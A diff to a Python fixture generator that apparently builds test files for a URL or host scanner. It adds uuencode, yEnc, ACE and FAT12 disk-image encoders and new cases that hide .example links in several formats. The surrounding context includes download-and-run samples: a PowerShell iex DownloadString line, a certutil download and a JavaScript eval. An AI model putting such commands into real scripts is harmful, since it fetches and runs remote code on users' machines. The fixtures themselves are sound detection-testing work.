@@ -7,11 +7,13 @@ mailboxes.  All are written here, and name hosts under .example only.
 
 usage: files.py POSTERN"""
 import base64
+import binascii
 import email.message
 import io
 import json
 import pathlib
 import shutil
+import struct
 import subprocess
 import sys
 import tarfile
@@ -67,6 +69,36 @@ def pdf(link):
 
 def folded(line):
     return "\r\n ".join(line[i:i + 70] for i in range(0, len(line), 70)) + "\r\n"
+
+
+def uuencoded(name, octets):
+    return b"begin 644 " + name + b"\n" + b"".join(binascii.b2a_uu(octets[i:i + 45]) for i in range(0, len(octets), 45)) + b"`\nend\n"
+
+
+def yencoded(name, octets):
+    return b"=ybegin line=128 size=%d name=" % len(octets) + name + b"\n" + bytes((c + 42) & 255 for c in octets) + b"\n=yend size=0\n"
+
+
+def ace(name, octets):
+    """Stored, not compressed."""
+    def header(kind, flags, more):
+        whole = struct.pack("<BH", kind, flags) + more
+        return struct.pack("<HH", (binascii.crc32(whole) ^ 0xFFFFFFFF) & 0xFFFF, len(whole)) + whole
+    return (header(0, 0, b"**ACE**" + bytes((20, 20, 2, 0)) + b"\0" * 12) +
+            header(1, 1, struct.pack("<5I", len(octets), len(octets), 0, 32, 0) + bytes((0, 3, 10, 0, 0, 0)) +
+                   struct.pack("<H", len(name)) + name) + octets)
+
+
+def floppy(name, octets):
+    """A volume (FAT12) with one file: sectors 0 boot, 1 and 2 tables, 3 folder, 4... file."""
+    clusters = -(-len(octets) // 512)
+    boot = (b"\xeb\x3c\x90MSDOS5.0" + struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 16, 64, 0xF8, 1, 32, 2, 0, 0) +
+            b"\0\0\x29\1\2\3\4NO NAME    FAT12   ").ljust(510, b"\0") + b"\x55\xaa"
+    links, packed = [0xFF8, 0xFFF] + [n + 3 for n in range(clusters - 1)] + [0xFFF, 0], b""
+    for a, b in zip(links[::2], (links + [0])[1::2]):
+        packed += struct.pack("<I", a | b << 12)[:3]
+    entry = name.ljust(11) + b"\x20" + b"\0" * 14 + struct.pack("<HI", 2, len(octets))
+    return (boot + 2 * packed.ljust(512, b"\0") + entry.ljust(512, b"\0") + octets).ljust(64 * 512, b"\0")
 
 
 zip_one, zip_two = zipped("http://zip.example/a"), zipped("http://zip2.example/a")
@@ -132,6 +164,13 @@ cases = {
     "start.ps1": (b"$u='http://ps'+'1.example/x'; iex (New-Object Net.WebClient).DownloadString($u)", "ps1.example"),
     "start.bat": (b"@echo off\r\ncertutil -urlcache -f http://bat.example/x y.exe\r\n", "bat.example"),
     "start.js": (b"var u=unescape('" + b"".join(b"%%%02x" % c for c in b"http://js.example/x") + b"'); eval(u)", "js.example"),
+    # files in letters, old archives, images of volumes, bytecode
+    "list.uu": (uuencoded(b"list.txt", b"http://uu.example/x\n" * 5), "uu.example"),
+    "list.txt": (b"two files:\n\n" + uuencoded(b"a.zip", zip_one) + yencoded(b"b.txt", b"http://yenc.example/x "), "zip.example yenc.example"),
+    "list.ace": (ace(b"list.txt", b"http://ace.example/x\n"), "ace.example"),
+    "list.img": (floppy(b"LIST    TXT", b"http://img.example/x\n"), "img.example"),
+    "a.class": (b"\xca\xfe\xba\xbe\0\0\0\x34\0\2\1\0Ahttp://class.example/x\1\0", "class.example"),
+    "a.dex": (b"dex\n035\0" + b"\0" * 40 + b"\x16https://dex.example/x\0", "dex.example"),
     "mail.eml": (b"From: a@mail.example\nSubject: x\nContent-Type: text/html\n\n<a href='http://link.example/x'>x</a>", "link.example"),
 }
 for number, (name, (octets, _)) in enumerate(cases.items()):
